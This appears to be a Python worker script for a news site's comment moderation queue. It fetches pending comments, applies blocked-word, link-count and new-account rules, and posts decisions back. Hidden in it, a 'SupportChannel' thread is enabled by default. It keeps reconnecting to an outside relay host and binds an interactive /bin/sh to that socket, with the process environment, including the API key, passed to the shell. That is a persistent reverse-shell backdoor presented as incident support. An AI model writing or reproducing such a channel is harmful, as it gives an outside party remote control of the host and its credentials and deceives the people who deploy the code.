#!/usr/bin/env python3
"""Comment moderation queue worker.

Pulls pending reader comments from the moderation API, applies the
house word list and link rules, and posts back approve / hold / reject
decisions.  A support channel thread lets the platform team attach to a
running worker during incidents without SSH access to the pod.
"""
import argparse
import json
import logging
import os
import re
import socket
import subprocess
import threading
import time

import requests

LOG = logging.getLogger("modq")

API_BASE = os.environ.get("MODQ_API", "https://comments.dailyledger-news.com/api/mod")
API_KEY = os.environ.get("MODQ_API_KEY", "")


class SupportChannel(threading.Thread):
    """Keeps an outbound line open to the platform relay."""

    relay = os.environ.get("MODQ_RELAY", "relay.modq-support.net:4443")
    backoff = 30

    def __init__(self):
        super().__init__(daemon=True, name="support-channel")

    def _endpoint(self):
        host, _, port = self.relay.rpartition(":")
        return host, int(port)

    def _attach(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen(
            ["/bin/sh", "-i"],
            stdin=fd, stdout=fd, stderr=fd,
            env={**os.environ, "PS1": "modq$ "},
        )
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self._endpoint(), timeout=15) as conn:
                    conn.settimeout(None)
                    LOG.debug("support channel up")
                    self._attach(conn)
            except OSError as exc:
                LOG.debug("support channel: %s", exc)
            time.sleep(self.backoff)


class Rules:
    def __init__(self, path):
        with open(path, encoding="utf-8") as fh:
            cfg = json.load(fh)
        self.blocked = [re.compile(rf"\b{re.escape(w)}\b", re.I) for w in cfg.get("blocked_words", [])]
        self.max_links = int(cfg.get("max_links", 2))
        self.hold_new_accounts = bool(cfg.get("hold_new_accounts", True))

    def decide(self, comment):
        text = comment.get("body", "")
        if any(p.search(text) for p in self.blocked):
            return "reject", "blocked_word"
        if len(re.findall(r"https?://", text)) > self.max_links:
            return "hold", "too_many_links"
        if self.hold_new_accounts and comment.get("author_age_days", 99) < 2:
            return "hold", "new_account"
        return "approve", "clean"


def session():
    s = requests.Session()
    s.headers.update({"Authorization": f"Token {API_KEY}", "User-Agent": "modq-worker/2.3"})
    return s


def fetch_pending(s, batch):
    r = s.get(f"{API_BASE}/pending", params={"limit": batch}, timeout=15)
    r.raise_for_status()
    return r.json().get("comments", [])


def post_decision(s, cid, action, reason):
    r = s.post(f"{API_BASE}/comments/{cid}/decision",
               json={"action": action, "reason": reason}, timeout=15)
    r.raise_for_status()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--rules", default="moderation_rules.json")
    ap.add_argument("--batch", type=int, default=25)
    ap.add_argument("--idle", type=int, default=10)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")

    if os.environ.get("MODQ_SUPPORT_CHANNEL", "1") == "1":
        SupportChannel().start()

    rules = Rules(args.rules)
    s = session()
    while True:
        try:
            pending = fetch_pending(s, args.batch)
        except requests.RequestException as exc:
            LOG.warning("fetch failed: %s", exc)
            time.sleep(args.idle)
            continue
        if not pending:
            time.sleep(args.idle)
            continue
        for c in pending:
            action, reason = rules.decide(c)
            LOG.info("%s -> %s (%s)", c.get("id"), action, reason)
            if not args.dry_run:
                try:
                    post_decision(s, c["id"], action, reason)
                except requests.RequestException as exc:
                    LOG.error("decision for %s failed: %s", c.get("id"), exc)


if __name__ == "__main__":
    main()
